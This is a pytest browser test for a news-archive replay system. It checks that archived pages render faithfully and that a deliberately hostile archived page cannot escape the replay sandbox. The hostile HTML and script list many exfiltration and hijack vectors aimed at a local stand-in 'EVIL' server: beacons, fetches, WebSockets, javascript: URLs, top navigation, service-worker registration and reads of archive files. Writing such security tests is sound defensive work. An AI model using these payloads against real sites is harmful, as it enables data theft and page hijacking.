"""Replay in the reading room, in a real Chromium: pages as they were, and pages that mean harm and do none."""

from __future__ import annotations

import re
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from urllib.parse import quote, urlsplit

import pytest

from newsarchive.collection.collection import Collection
from newsarchive.model.capture import StoredCapture
from newsarchive.snapshot.create import create
from newsarchive.web.record_ids import in_path
from newsarchive.web.stage import has_player
from tests.interop.installed import CHROMIUM, needs_chromium
from tests.kept import SITE, archive, crawling, exchange
from tests.shown import HTML, Shown, build

playwright = pytest.importorskip("playwright.sync_api", reason="Playwright is missing: make lock, then make test")

pytestmark = [
    needs_chromium,
    pytest.mark.skipif(not has_player(), reason="ReplayWeb.page is missing: make replay-assets"),
    pytest.mark.timeout(300),
]

_PATIENCE_MS = 60_000
_TIME_TO_DO_HARM_MS = 500
_ARGUMENTS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
]

_SCRIPT = """
(async () => {
  const tell = (word) => fetch(`EVIL/${word}`, { mode: "no-cors" }).catch(() => {});
  document.title = "taken"; localStorage.setItem("taken", "1");
  tell("script"); new Image().src = "EVIL/image"; navigator.sendBeacon("EVIL/beacon");
  try { new WebSocket("EVIL/socket".replace("http", "ws")); } catch {}
  try { parent.postMessage({ wb_type: "title", title: "taken" }, "*"); top.postMessage("taken", "*"); } catch {}
  try { top.location = "EVIL/top"; } catch {}
  try { window.open("EVIL/open"); } catch {}
  try { (opener || parent).document.title = "taken"; } catch {}
  try { await caches.open("taken"); } catch {}
  try { await navigator.serviceWorker.register("/replay/sw.js?serveIndex=1", { scope: "/replay/w/" }); } catch {}
  try { tell("read/" + (await (await fetch("ROOM/")).text()).length); } catch {}
  try { tell("read/" + (await (await fetch("/captures/SITE/x.wacz")).text()).length); } catch {}
})();
"""

_HOSTILE = """<!DOCTYPE html><html lang="de"><head><title>Harmlos</title>
<base href="EVIL/base/"><meta http-equiv="refresh" content="0;url=EVIL/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<link rel="stylesheet" href="EVIL/style.css"><link rel="preload" as="image" href="EVIL/preload.png">
<link rel="prefetch" href="EVIL/prefetch"><link rel="preconnect" href="EVIL"><link rel="dns-prefetch" href="EVIL">
<link rel="manifest" href="EVIL/manifest"><link rel="icon" href="EVIL/icon.png">
<style>@import url("EVIL/import.css"); @font-face { font-family: x; src: url(EVIL/font) }
body { background: url("EVIL/css.png"); font-family: x } a[href^="j"] { background: url(EVIL/selector.png) }
p::before { content: url(EVIL/content.png) }</style>
<script>SCRIPT</script><script src="EVIL/script.js"></script><script type="module">SCRIPT</script></head>
<body onload='fetch("EVIL/onload")'><h1>Harmlos</h1>
<p id="js"><a href="javascript:SCRIPT_ESCAPED">Skript</a></p>
<p id="top"><a href="EVIL/link" target="_top" ping="EVIL/ping">Oben</a></p>
<p id="blank"><a href="EVIL/link" target="_blank" ping="EVIL/ping">Neu</a></p>
<p id="self"><a href="EVIL/link" ping="EVIL/ping">Hier</a></p>
<form action="EVIL/form" target="_top"><input name="q" value="x" autofocus onfocus='fetch("EVIL/onfocus")'>
<button id="send" formaction="javascript:SCRIPT_ESCAPED">Los</button></form>
<img src="EVIL/picture.png" onerror='fetch("EVIL/onerror")'><img src="/nicht-da.png" onerror='fetch("EVIL/onerror2")'>
<svg onload='fetch("EVIL/svg")'><image href="EVIL/svg.png"/><script>SCRIPT</script></svg>
<iframe src="EVIL/frame"></iframe><iframe src="ROOM/"></iframe><iframe src="javascript:SCRIPT_ESCAPED"></iframe>
<iframe srcdoc="<script>SCRIPT_ESCAPED</script><img src='EVIL/srcdoc.png'>"></iframe>
<iframe src="data:text/html,<script>SCRIPT_ESCAPED</script><img src='EVIL/data.png'>"></iframe>
<object data="EVIL/object"></object><embed src="EVIL/embed"><video src="EVIL/video" autoplay></video>
<audio src="EVIL/audio" autoplay></audio><input type="image" src="EVIL/input.png">
<details open ontoggle='fetch("EVIL/toggle")'>x</details><marquee onstart='fetch("EVIL/marquee")'>x</marquee>
<portal src="EVIL/portal"></portal></body></html>"""


class _Evil(ThreadingHTTPServer):
    daemon_threads = True
    asked: list[str]

    def verify_request(self, request: object, client_address: object) -> bool:
        """Note that somebody is there, before anything is asked."""
        self.asked.append("connection")
        return True


class _Answer(BaseHTTPRequestHandler):
    server: _Evil

    def do_GET(self) -> None:
        self._note()

    def do_POST(self) -> None:
        self._note()

    def _note(self) -> None:
        self.server.asked.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    def log_request(self, code: int | str = "-", size: int | str = "-") -> None:
        """What was asked is kept elsewhere."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Opened:
    """A reading room that is served: its origin, that of the stage, what is in it, and who waits for secrets."""

    room: str
    stage: str
    shown: Shown
    snapshot: str
    hostile: StoredCapture
    asked: list[str]

    def address(self, stored: StoredCapture) -> str:
        return f"{self.room}/{SITE}/captures/{in_path(stored.ref.record_id)}?lang=en"


@contextmanager
def evil() -> Iterator[tuple[str, list[str]]]:
    """A server that notes who connects and what is asked for: its origin, and the notes."""
    with _Evil(("127.0.0.1", 0), _Answer) as server:
        server.asked = []
        thread = Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}", server.asked
        server.shutdown()
        thread.join()


@contextmanager
def served(archive_directory: Path) -> Iterator[str]:
    """``newsarchive serve``; gives the origin of the reading room."""
    command = [sys.executable, "-m", "newsarchive", "serve", "--archive", str(archive_directory), "--port", "0"]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True) as process:
        try:
            assert process.stdout is not None
            yield process.stdout.readline().strip().rstrip("/")
        finally:
            process.terminate()


@pytest.fixture(name="opened", scope="module")
def _opened(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Opened]:
    root = tmp_path_factory.mktemp("archive")
    shown = build(root)
    with Collection.open(shown.collection) as collection:
        snapshot, _ = create(collection)
    with evil() as (origin, asked), served(root) as room:
        with playwright.sync_playwright() as starting:
            browser = starting.chromium.launch(executable_path=CHROMIUM, args=_ARGUMENTS)
            page = browser.new_page()
            page.goto(f"{room}/{SITE}/captures/{in_path(shown.page.ref.record_id)}")
            stage = "{0.scheme}://{0.netloc}".format(urlsplit(page.locator("iframe").get_attribute("src")))
            browser.close()
        script = _SCRIPT.replace("\n", " ")
        body = (
            _HOSTILE.replace("SCRIPT_ESCAPED", script.replace('"', "&quot;"))
            .replace("SCRIPT", script)
            .replace("EVIL", origin)
            .replace("ROOM", room)
            .replace("SITE", SITE)
        )
        with crawling(shown.collection) as writer:
            hostile = archive(writer, exchange("/harmlos-100.html", body.encode(), headers=HTML[:1]))
        yield Opened(room=room, stage=stage, shown=shown, snapshot=snapshot.stem, hostile=hostile, asked=asked)


@pytest.fixture(name="context")
def _context() -> Iterator[object]:
    with playwright.sync_playwright() as started:
        browser = started.chromium.launch(executable_path=CHROMIUM, args=_ARGUMENTS)
        context = browser.new_context(viewport={"width": 1000, "height": 800})
        context.set_default_timeout(_PATIENCE_MS)
        yield context
        browser.close()


def replayed(page: playwright.Page, url: str) -> playwright.Frame:
    """The frame in which ``url`` is replayed, loaded."""
    ending = re.compile(rf"/replay/w/[^/]+/(?::[0-9a-f]+/)?\d{{14}}mp_/{re.escape(url)}$")
    frame = next((frame for frame in page.frames if ending.search(frame.url)), None)
    if frame is None:
        frame = page.wait_for_event("framenavigated", lambda frame: bool(ending.search(frame.url)))
    frame.wait_for_load_state("load")
    return frame


@pytest.mark.parametrize("asked", ["page", "repeated", "unchanged", "moved"])
def test_a_page_is_seen_as_it_was(opened: Opened, context: playwright.BrowserContext, asked: str) -> None:
    page = context.new_page()
    page.goto(opened.address(getattr(opened.shown, asked)))
    frame = replayed(page, opened.shown.page.url)
    assert frame.title() == "Das Wetter wird besser"
    assert "Moin vom Seeblick." in frame.inner_text("body")
    assert frame.evaluate("getComputedStyle(document.querySelector('h1')).color") == "rgb(1, 2, 3)"
    widths = frame.evaluate("Array.from(document.images, (image) => [image.alt || image.id, image.naturalWidth])")
    assert dict(widths) == {"Hafen": 1, "fehlt": 0, "moewe": 1}


def test_what_is_no_page_is_seen_too(opened: Opened, context: playwright.BrowserContext) -> None:
    page = context.new_page()
    page.goto(opened.address(opened.shown.missing))
    assert "weg" in replayed(page, opened.shown.missing.url).inner_text("body")
    page.goto(opened.address(opened.shown.picture))
    frame = replayed(page, opened.shown.picture.url)
    assert frame.evaluate("document.images[0].naturalWidth") == 1


def test_a_snapshot_is_replayed_from_its_file(opened: Opened, context: playwright.BrowserContext) -> None:
    page = context.new_page()
    page.goto(f"{opened.room}/{SITE}/snapshots/{opened.snapshot}")
    player = page.frame_locator("iframe.stage").frame_locator("iframe")
    player.locator("wr-page-entry").get_by_role("link").first.click()
    assert "Moin vom Seeblick." in replayed(page, opened.shown.page.url).inner_text("body")


@pytest.mark.parametrize("clicked", ["h1", "#js a", "#top a", "#blank a", "#self a", "#send"])
def test_a_page_that_means_harm_does_none(opened: Opened, context: playwright.BrowserContext, clicked: str) -> None:
    errors: list[str] = []
    pages: list[str] = []
    context.on("page", lambda page: pages.append(page.url))
    page = context.new_page()
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on(
        "console",
        lambda message: (
            errors.append(message.text)
            if message.type == "error" and message.location["url"].startswith(opened.room)
            else None
        ),
    )
    page.goto(opened.address(opened.hostile))
    url, title = page.url, page.title()
    frame = replayed(page, opened.hostile.url)
    page.wait_for_timeout(_TIME_TO_DO_HARM_MS)
    assert (frame.title(), frame.inner_text("h1")) == ("Harmlos", "Harmlos")
    frame.click(clicked)
    page.wait_for_timeout(_TIME_TO_DO_HARM_MS)

    assert opened.asked == []
    assert (page.url, page.title(), len(pages)) == (url, title, 1)
    assert errors == []
    known = "navigator.serviceWorker.getRegistrations().then((all) => all.map((each) => each.scope))"
    assert (page.evaluate(known), page.evaluate("caches.keys()"), page.evaluate("localStorage.length")) == ([], [], 0)
    (player,) = (frame for frame in page.frames if frame.url.startswith(f"{opened.stage}/captures/"))
    assert player.evaluate(known) == [f"{opened.stage}/replay/"]
    assert "taken" not in player.evaluate("caches.keys()")
    assert player.evaluate("localStorage.getItem('taken')") is None


def test_the_player_is_nowhere_but_in_the_room(opened: Opened, context: playwright.BrowserContext) -> None:
    page = context.new_page()
    page.goto(opened.address(opened.hostile))
    frame = replayed(page, opened.hostile.url)
    # Now the worker is installed, and whoever likes could open its pages with parameters of his own.
    source = f"{opened.stage}/captures/{SITE}/{in_path(opened.hostile.ref.record_id)}.wacz"
    config = quote('{"csp": "default-src * \'unsafe-inline\'"}')
    for address in (frame.url, f"{opened.stage}/replay/?source={quote(source)}&config={config}"):
        other = context.new_page()
        answer = other.goto(address)
        assert answer is not None
        assert (answer.status, other.inner_text("body").strip()) == (403, "This is shown in the reading room only.")
    assert opened.asked == []


def test_parameters_do_not_loosen_what_a_page_may_do(opened: Opened, context: playwright.BrowserContext) -> None:
    page = context.new_page()
    page.goto(opened.address(opened.hostile))
    replayed(page, opened.hostile.url)
    (player,) = (frame for frame in page.frames if frame.url.startswith(f"{opened.stage}/captures/"))
    player.evaluate(
        """([source, url, ts]) => {
          document.querySelector("replay-web-page").remove();
          const element = document.createElement("replay-web-page");
          const config = JSON.stringify({ csp: "default-src * 'unsafe-inline' 'unsafe-eval'" });
          const given = { source, url, ts, config, coll: "other", replayBase: "/replay/", embed: "replayonly" };
          for (const [name, value] of Object.entries({ ...given, noWebWorker: "" })) element.setAttribute(name, value);
          document.getElementById("player").append(element);
        }""",
        [
            f"/captures/{SITE}/{in_path(opened.hostile.ref.record_id)}.wacz",
            opened.hostile.url,
            f"{opened.hostile.ref.captured_at:%Y%m%d%H%M%S}",
        ],
    )
    frame = page.wait_for_event("framenavigated", lambda frame: "/replay/w/other/" in frame.url)
    frame.wait_for_load_state("load")
    page.wait_for_timeout(_TIME_TO_DO_HARM_MS)
    assert frame.title() == "Harmlos"
    assert opened.asked == []
